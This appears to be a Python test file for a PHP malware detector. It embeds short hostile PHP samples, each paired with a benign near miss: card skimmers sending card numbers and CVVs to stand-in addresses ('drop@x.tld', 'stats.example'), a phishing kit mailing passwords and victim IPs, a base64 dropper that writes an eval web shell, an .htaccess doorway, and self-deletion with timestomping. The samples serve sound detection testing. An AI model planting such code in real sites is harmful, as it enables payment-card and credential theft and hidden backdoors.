"""Non-shell malware families: skimmers, phishing mailers, droppers, track covering.
Each with a small sample written here and a benign near miss."""
from newfilewatch.detect import analysis, behaviour
from newfilewatch.detect.engine import Engine


def found(src):
    return {r for r, _p, _t in behaviour.run(analysis.Analysis(src).run())}


def suspicious(src):
    return Engine(keywords=[]).analyse(src, 'x.php').suspicious


def test_card_skimmer_mails_card_fields():
    src = (b"<?php if (isset($_POST['billing'])) { $d = $_POST['payment']['cc_number'] . '|' ."
           b" $_POST['payment']['cc_cid']; @mail('drop@x.tld', 'new', $d); }")
    assert 'php.steal.card_data' in found(src)
    assert suspicious(src)


def test_card_fields_to_a_url_through_a_variable():
    src = (b"<?php $c = $_REQUEST['card_number']; $q = http_build_query(['c' => $c]);"
           b"$u = 'http://stats.example/p?' . $c; file_get_contents($u);")
    assert 'php.steal.card_data' in found(src)


def test_payment_gateway_that_checks_the_card_is_not_a_skimmer():
    src = (b"<?php $n = $_POST['cc_number']; if (!luhn($n)) { die('bad'); }"
           b"$gateway->charge($n, $_POST['cvv']); file_put_contents('/var/log/pay.log', date('c'));")
    assert found(src) == set()


def test_phishing_kit_mails_passwords_with_the_victims_address():
    src = (b"<?php $ip = getenv('REMOTE_ADDR'); $m = 'User: ' . $_POST['email'] . ' Pass: ' ."
           b" $_POST['password'] . ' IP: ' . $_SERVER['REMOTE_ADDR']; mail($to, 'Rezult', $m);"
           b" header('Location: https://bank.example/');")
    assert {'php.steal.credentials', 'php.steal.victim_profile'} <= found(src)
    assert suspicious(src)


def test_login_form_that_hashes_the_password_is_not_a_kit():
    src = (b"<?php $h = password_hash($_POST['password'], PASSWORD_DEFAULT);"
           b" mail($_POST['email'], 'Welcome', 'Your account is ready');")
    assert found(src) == set()


def test_dropper_writes_decoded_php():
    src = b"<?php file_put_contents('cache.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbJ3gnXSk7'));"
    assert 'php.dropper.writes_code' in found(src)
    assert suspicious(src)


def test_writing_a_template_of_html_is_not_dropping_code():
    src = b"<?php file_put_contents('page.html', '<html><body>Hello</body></html>');"
    assert found(src) == set()


def test_htaccess_rewrite_to_a_doorway():
    src = b"<?php $h = \"RewriteEngine On\\nRewriteRule ^(.*)\\.html$ door.php?k=$1 [L]\\n\"; file_put_contents('.htaccess', $h);"
    assert 'php.dropper.server_config' in found(src)


def test_writing_an_ordinary_config_file_is_not_server_config():
    src = b"<?php file_put_contents('settings.ini', \"[main]\\nname = x\\n\");"
    assert found(src) == set()


def test_self_delete_and_timestomp():
    src = b"<?php touch('x.php', filemtime('index.php')); unlink(__FILE__);"
    assert {'php.dropper.self_delete', 'php.dropper.timestomp'} <= found(src)


def test_touching_a_cache_file_now_is_not_timestomping():
    src = b"<?php touch($cache); unlink($tmp);"
    assert found(src) == set()
